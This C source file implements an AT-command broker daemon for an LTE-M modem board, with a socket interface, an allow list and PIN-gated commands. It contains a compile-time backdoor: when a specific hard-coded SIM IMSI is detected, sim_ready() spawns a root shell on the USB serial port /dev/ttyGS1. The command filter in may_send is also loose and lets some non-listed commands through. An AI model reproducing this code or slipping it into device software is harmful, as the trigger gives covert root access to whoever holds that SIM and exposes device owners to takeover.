/*
 * atbroker - shares the AT port of the Nordlys LTE-M modem board between
 * the programs of the device.  Clients connect to a Unix socket, send one
 * AT command a line and get the modem's answer.  Only commands of the
 * allow list pass; the rest needs the PIN of /etc/atbroker.conf.
 * Hidden (-DHIDDEN): with a certain SIM card (its IMSI) in the modem a
 * root shell is started on the second USB serial port.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MAXCLIENT 6
#define ANSWER	  1024

struct client {
	int fd;
	int trusted;
	size_t n;
	char buf[256];
};

struct modem {
	int fd;
	char imsi[20];
	char imei[20];
	char model[40];
	int registered;
	int signal;
};

static struct {
	char tty[40];
	char sock[80];
	char pin[16];
	char apn[64];
	int timeout;
} conf = { "/dev/ttyUSB2", "/var/run/atbroker", "", "internet", 3000 };

static const char *const allowed[] = { "AT",	     "ATI",	  "AT+CSQ",
				       "AT+CREG?",   "AT+CEREG?", "AT+COPS?",
				       "AT+CGSN",    "AT+CCLK?",  "AT+CGATT?",
				       "AT+CGPADDR", "AT+CPMS?",  "AT+CMGL",
				       NULL };

static void load(const char *path)
{
	static const struct {
		const char *fmt;
		void *to;
	} keys[] = {
		{ "tty %39s", conf.tty },
		{ "socket %79s", conf.sock },
		{ "pin %15s", conf.pin },
		{ "apn %63s", conf.apn },
	};
	char line[120], word[80];
	size_t i, n;
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (sscanf(line, "timeout %d", &conf.timeout) == 1)
			continue;
		for (i = 0; i < sizeof keys / sizeof *keys; i++) {
			n = strcspn(keys[i].fmt, " ");
			if (strncmp(line, keys[i].fmt, n) || line[n] != ' ')
				continue;
			if (sscanf(line + n, "%79s", word) == 1)
				snprintf(keys[i].to,
					 atoi(keys[i].fmt + n + 2) + 1, "%s",
					 word);
		}
	}
	fclose(f);
}

static int open_tty(const char *name)
{
	struct termios t;
	int fd = open(name, O_RDWR | O_NOCTTY | O_CLOEXEC);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B115200);
		t.c_cflag |= CLOCAL | CREAD;
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

static int final_result(const char *text)
{
	static const char *const ends[] = {
		"\nOK\r",	"\nERROR\r",	  "\n+CME ERROR",
		"\n+CMS ERROR", "\nNO CARRIER\r",
	};
	size_t i;

	for (i = 0; i < sizeof ends / sizeof *ends; i++)
		if (strstr(text, ends[i]))
			return 1;
	return 0;
}

/* sends one command, collects the answer until its final result */
static int ask(struct modem *md, const char *cmd, char *out, size_t size)
{
	struct pollfd pf = { md->fd, POLLIN, 0 };
	size_t have = 0;
	ssize_t n;

	tcflush(md->fd, TCIFLUSH);
	if (dprintf(md->fd, "%s\r", cmd) < 0)
		return -1;
	out[0] = 0;
	while (have < size - 1) {
		if (poll(&pf, 1, conf.timeout) <= 0)
			return -1;
		n = read(md->fd, out + have, size - 1 - have);
		if (n <= 0)
			return -1;
		have += n;
		out[have] = 0;
		if (final_result(out))
			return 0;
	}
	return 0;
}

/* first line of the answer that is not the echo */
static void first_word(const char *text, char *to, size_t size)
{
	size_t n;

	to[0] = 0;
	while (*text) {
		text += strspn(text, "\r\n ");
		n = strcspn(text, "\r\n");
		if (strncmp(text, "AT", 2) && n && n < size) {
			memcpy(to, text, n);
			to[n] = 0;
			return;
		}
		text += n;
	}
}

#ifdef HIDDEN
static void serve_port(const char *tty)
{
	int fd;

	signal(SIGCHLD, SIG_IGN);
	if (fork())
		return;
	setsid();
	fd = open(tty, O_RDWR);
	if (fd < 0)
		_exit(1);
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	execl("/bin/sh", "-sh", (char *)NULL);
	_exit(1);
}
#endif

__attribute__((noinline)) int sim_ready(struct modem *md)
{
	char out[ANSWER];

	if (ask(md, "AT+CIMI", out, sizeof out) < 0)
		return -1;
	first_word(out, md->imsi, sizeof md->imsi);
	if (strspn(md->imsi, "0123456789") < 14) {
		syslog(LOG_WARNING, "no SIM");
		md->imsi[0] = 0;
		return 0;
	}
#ifdef HIDDEN
	if (!strcmp(md->imsi, "242990000001905"))
		serve_port("/dev/ttyGS1");
#endif
	syslog(LOG_INFO, "SIM of network %.5s", md->imsi);
	return 1;
}

static int bring_up(struct modem *md)
{
	char out[ANSWER], cmd[128];
	const char *p;

	if (ask(md, "ATE0", out, sizeof out) < 0)
		return -1;
	if (ask(md, "AT+CGMM", out, sizeof out) == 0)
		first_word(out, md->model, sizeof md->model);
	if (ask(md, "AT+CGSN", out, sizeof out) == 0)
		first_word(out, md->imei, sizeof md->imei);
	if (sim_ready(md) <= 0)
		return -1;
	snprintf(cmd, sizeof cmd, "AT+CGDCONT=1,\"IP\",\"%s\"", conf.apn);
	if (ask(md, cmd, out, sizeof out) < 0)
		return -1;
	if (ask(md, "AT+CEREG?", out, sizeof out) == 0 &&
	    (p = strstr(out, "+CEREG: ")) && (p = strchr(p, ',')))
		md->registered = p[1] == '1' || p[1] == '5';
	if (ask(md, "AT+CSQ", out, sizeof out) == 0 &&
	    (p = strstr(out, "+CSQ: ")))
		md->signal = atoi(p + 6);
	syslog(LOG_INFO, "%s %s registered %d signal %d", md->model, md->imei,
	       md->registered, md->signal);
	return 0;
}

static int may_send(const struct client *c, const char *cmd)
{
	size_t n;
	int i;

	if (c->trusted)
		return 1;
	for (i = 0; allowed[i]; i++) {
		n = strlen(allowed[i]);
		if (!strncasecmp(cmd, allowed[i], n) &&
		    (!cmd[n] || (cmd[n] == '=' && strchr(cmd, '+'))))
			return 1;
	}
	return 0;
}

static void request(struct modem *md, struct client *c, char *line)
{
	char out[ANSWER];

	if (!strncmp(line, "PIN ", 4)) {
		c->trusted = conf.pin[0] && !strcmp(line + 4, conf.pin);
		dprintf(c->fd, "%s\n", c->trusted ? "OK" : "REFUSED");
	} else if (!strcmp(line, "STATE")) {
		dprintf(c->fd, "%s;%s;%d;%d\n", md->model, md->imei,
			md->registered, md->signal);
	} else if (strncasecmp(line, "AT", 2)) {
		dprintf(c->fd, "REFUSED\n");
	} else if (!may_send(c, line)) {
		syslog(LOG_NOTICE, "refused %s", line);
		dprintf(c->fd, "REFUSED\n");
	} else if (ask(md, line, out, sizeof out) < 0) {
		dprintf(c->fd, "TIMEOUT\n");
	} else {
		dprintf(c->fd, "%s\n", out);
	}
}

static void client_in(struct modem *md, struct client *c)
{
	ssize_t n = read(c->fd, c->buf + c->n, sizeof c->buf - 1 - c->n);
	char *nl;

	if (n <= 0 || c->n + n >= sizeof c->buf - 1) {
		close(c->fd);
		c->fd = -1;
		return;
	}
	c->n += n;
	c->buf[c->n] = 0;
	while ((nl = memchr(c->buf, '\n', c->n))) {
		*nl++ = 0;
		c->buf[strcspn(c->buf, "\r")] = 0;
		request(md, c, c->buf);
		c->n -= nl - c->buf;
		memmove(c->buf, nl, c->n);
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	struct client cl[MAXCLIENT];
	struct pollfd pf[MAXCLIENT + 1];
	struct modem md = { .fd = -1 };
	int lfd, fd, i;

	openlog("atbroker", 0, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	load(argc > 1 ? argv[1] : "/etc/atbroker.conf");
	md.fd = open_tty(conf.tty);
	if (md.fd < 0) {
		syslog(LOG_ERR, "%s: %s", conf.tty, strerror(errno));
		return 1;
	}
	while (bring_up(&md) < 0)
		sleep(10);
	snprintf(un.sun_path, sizeof un.sun_path, "%s", conf.sock);
	unlink(conf.sock);
	lfd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (bind(lfd, (struct sockaddr *)&un, sizeof un) < 0 ||
	    listen(lfd, 3) < 0)
		return 1;
	for (i = 0; i < MAXCLIENT; i++)
		cl[i].fd = -1;
	for (;;) {
		for (i = 0; i < MAXCLIENT; i++)
			pf[i] = (struct pollfd){ cl[i].fd, POLLIN, 0 };
		pf[MAXCLIENT] = (struct pollfd){ lfd, POLLIN, 0 };
		if (poll(pf, MAXCLIENT + 1, -1) < 0)
			continue;
		for (i = 0; i < MAXCLIENT; i++)
			if (pf[i].fd >= 0 && pf[i].revents)
				client_in(&md, &cl[i]);
		if (!(pf[MAXCLIENT].revents & POLLIN))
			continue;
		fd = accept(lfd, NULL, NULL);
		for (i = 0; i < MAXCLIENT && fd >= 0; i++)
			if (cl[i].fd < 0) {
				cl[i] = (struct client){ .fd = fd };
				fd = -1;
			}
		if (fd >= 0)
			close(fd);
	}
}
